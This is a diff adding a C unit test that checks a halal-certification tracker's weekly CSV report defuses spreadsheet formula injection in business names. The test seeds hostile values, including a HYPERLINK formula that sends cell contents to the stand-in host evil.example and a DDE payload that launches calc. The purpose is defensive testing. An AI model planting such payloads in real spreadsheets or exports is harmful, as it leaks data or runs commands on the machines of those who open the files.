@@ -2,6 +2,7 @@
  * exact regeneration of a past week after later observations, report_run records. */
 #include <jansson.h>
 #include "report_fixture.h"
+#include "halaltrack/csv.h"
 
 static void setup(void)
 {
@@ -384,4 +385,43 @@ Test(report_weekly, pdf_without_chromium_names_the_package)
     cr_assert_eq(r.status, 1, "%s", r.err);
     cr_assert(strstr(r.err, "chromium"), "%s", r.err);
     tu_result_release(&r);
+}
+
+/* Issue 10, item 9 (CSV formula injection): business names typed by an MSME or taken
+ * from upstream reach the weekly CSV. A spreadsheet must see them as text: a single
+ * quote in front of every field that starts like a formula, numbers left alone. */
+Test(report_weekly, csv_formula_injection_is_defused)
+{
+    static const char *const hostile =
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
+    char *out, sql[256];
+    struct csv_reader *r;
+    struct csv_record rec;
+    struct ht_err err = HT_ERR_INIT;
+    int seen = 0;
+
+    snprintf(sql, sizeof(sql),
+             "UPDATE msme SET business_name = '%s' WHERE nib = '3575010000002'", hostile);
+    pgt_exec(sql);
+    pgt_exec("UPDATE application SET nama_pu = '@SUM(1+1)*cmd|'' /C calc''!A0'"
+             " WHERE id_reg = 'A6'");
+    pgt_exec("UPDATE msme SET business_name = '-2+3' WHERE nib = '3575020000004'");
+    out = weekly(RF_NOW, "en", NULL, "csv");
+    cr_assert(strstr(out, "\"'=HYPERLINK(\"\"http://evil.example/"), "%s", out);
+    r = csv_reader_new_mem(out, strlen(out), NULL);
+    cr_assert(r);
+    while (csv_next(r, &rec, &err) == CSV_OK) {
+        for (size_t i = 0; i < rec.nfields; i++) {
+            const char *f = rec.fields[i];
+
+            if (i == 2) /* value: a number, may be negative */
+                continue;
+            cr_assert(!strchr("=+-@\t\r", f[0]) || !f[0],
+                      "line %lu field %zu starts like a formula: %s", rec.line, i, f);
+            seen += f[0] == '\'' && strchr("=+-@", f[1]);
+        }
+    }
+    cr_assert_geq(seen, 2, "the hostile names are in the sheet, defused:\n%s", out);
+    csv_reader_free(r);
+    free(out);
 }
